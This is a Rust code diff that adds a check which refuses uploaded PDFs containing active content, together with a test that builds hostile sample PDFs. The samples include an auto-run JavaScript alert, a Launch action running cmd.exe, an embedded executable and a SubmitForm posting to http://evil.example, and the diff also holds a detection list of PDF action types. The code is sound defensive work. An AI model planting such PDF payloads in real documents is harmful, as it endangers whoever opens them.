@@ -56,6 +56,10 @@ pub struct Inspected {
 pub enum FileProblem {
     /// Not JPEG, PNG or PDF by its content.
     NotAScan,
+    /// A PDF that does things when opened (JavaScript, launching a program, files inside
+    /// it, forms that send data): a scan has none, and a reviewer opens it on their own
+    /// machine.
+    ActivePdf,
     /// It starts like one but cannot be read (truncated, corrupt, a fake).
     Unreadable(FileType),
     /// An image with more pixels than [`MAX_PIXELS`].
@@ -69,7 +73,15 @@ pub fn inspect(data: &[u8]) -> Result<Inspected, FileProblem> {
     let kind = sniff(data).ok_or(FileProblem::NotAScan)?;
     match kind {
         FileType::Pdf => {
-            let pages = pdf_pages(data).ok_or(FileProblem::Unreadable(kind))?;
+            let pdf =
+                hayro_syntax::Pdf::new(data.to_vec()).map_err(|_| FileProblem::Unreadable(kind))?;
+            let pages = pdf.pages().len();
+            if pages == 0 {
+                return Err(FileProblem::Unreadable(kind));
+            }
+            if active_content(&pdf) {
+                return Err(FileProblem::ActivePdf);
+            }
             Ok(Inspected {
                 kind,
                 pixels: None,
@@ -102,6 +114,65 @@ pub fn image_size(data: &[u8]) -> Option<(u32, u32)> {
         .into_dimensions()
         .ok()?;
     (width > 0 && height > 0).then_some((width, height))
+}
+
+/// Whether any object of `pdf` (those in compressed object streams too) asks a viewer to
+/// act: a script (`/JS`, `/JavaScript`), an action that launches, imports, submits or
+/// plays (`/S /Launch` …), files carried inside (`/EmbeddedFile(s)`), an XFA form, rich
+/// media, or actions run on events (`/AA`). A page to open at (`/OpenAction` to a page,
+/// as scanners write) is not one.
+fn active_content(pdf: &hayro_syntax::Pdf) -> bool {
+    use hayro_syntax::object::{MaybeRef, Object};
+    const KEYS: [&[u8]; 7] = [
+        b"JS",
+        b"JavaScript",
+        b"EmbeddedFile",
+        b"EmbeddedFiles",
+        b"XFA",
+        b"RichMediaContent",
+        b"AA",
+    ];
+    const ACTIONS: [&[u8]; 8] = [
+        b"JavaScript",
+        b"Launch",
+        b"ImportData",
+        b"SubmitForm",
+        b"GoToE",
+        b"Rendition",
+        b"RichMediaExecute",
+        b"Sound",
+    ];
+    fn active(object: &Object<'_>, depth: u8) -> bool {
+        if depth > 12 {
+            return false;
+        }
+        let dict = match object {
+            Object::Dict(dict) => dict,
+            Object::Stream(stream) => stream.dict(),
+            Object::Array(array) => {
+                return array.raw_iter().any(|item| match item {
+                    MaybeRef::NotRef(inner) => active(&inner, depth + 1),
+                    MaybeRef::Ref(_) => false,
+                });
+            }
+            _ => return false,
+        };
+        dict.entries().any(|(key, value)| {
+            let key: &[u8] = key.as_ref();
+            if KEYS.contains(&key) {
+                return true;
+            }
+            match value {
+                MaybeRef::NotRef(Object::Name(name)) if key == b"S" || key == b"Type" => {
+                    let name: &[u8] = name.as_ref();
+                    ACTIONS.contains(&name) || name == b"EmbeddedFile"
+                }
+                MaybeRef::NotRef(inner) => active(&inner, depth + 1),
+                MaybeRef::Ref(_) => false,
+            }
+        })
+    }
+    pdf.objects().into_iter().any(|object| active(&object, 0))
 }
 
 /// The number of pages of a PDF that parses (`None` when it does not, or has none).
@@ -170,12 +241,18 @@ mod tests {
 
     /// A small PDF of two pages, objects and cross-reference table written by hand.
     pub(crate) fn two_page_pdf() -> Vec<u8> {
-        let objects = [
-            "<< /Type /Catalog /Pages 2 0 R >>",
+        pdf_of("<< /Type /Catalog /Pages 2 0 R >>", &[])
+    }
+
+    /// A two-page PDF with `catalog` as its catalog and `more` as objects 5 on.
+    fn pdf_of(catalog: &str, more: &[&str]) -> Vec<u8> {
+        let mut objects = vec![
+            catalog,
             "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
         ];
+        objects.extend_from_slice(more);
         let mut pdf = b"%PDF-1.7\n".to_vec();
         let mut offsets = Vec::new();
         for (i, body) in objects.iter().enumerate() {
@@ -195,6 +272,49 @@ mod tests {
             .bytes(),
         );
         pdf
+    }
+
+    /// A PDF that acts when opened — a script, a program launched, a file inside, actions on
+    /// events — is no scan, and a reviewer opens it on their machine: refused, the script
+    /// found in an object of its own too. Opening at a page, as scanners write, is fine.
+    #[test]
+    fn a_pdf_that_acts_when_opened_is_refused() {
+        for (catalog, more) in [
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
+                &[][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+                &["<< /S /Launch /F (cmd.exe) /P (/c calc) >>"][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>",
+                &[
+                    "<< /Names [(a.exe) 6 0 R] >>",
+                    "<< /Type /Filespec /F (a.exe) >>",
+                ][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /AA << /O 5 0 R >> >>",
+                &["<< /S /GoTo /D [3 0 R /Fit] >>"][..],
+            ),
+            (
+                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+                &["<< /S /SubmitForm /F (http://evil.example) >>"][..],
+            ),
+        ] {
+            assert_eq!(
+                inspect(&pdf_of(catalog, more)),
+                Err(FileProblem::ActivePdf),
+                "{catalog} {more:?}"
+            );
+        }
+        let opens_at_a_page = pdf_of(
+            "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+            &[],
+        );
+        assert_eq!(inspect(&opens_at_a_page).map(|i| i.pages), Ok(Some(2)));
     }
 
     #[test]
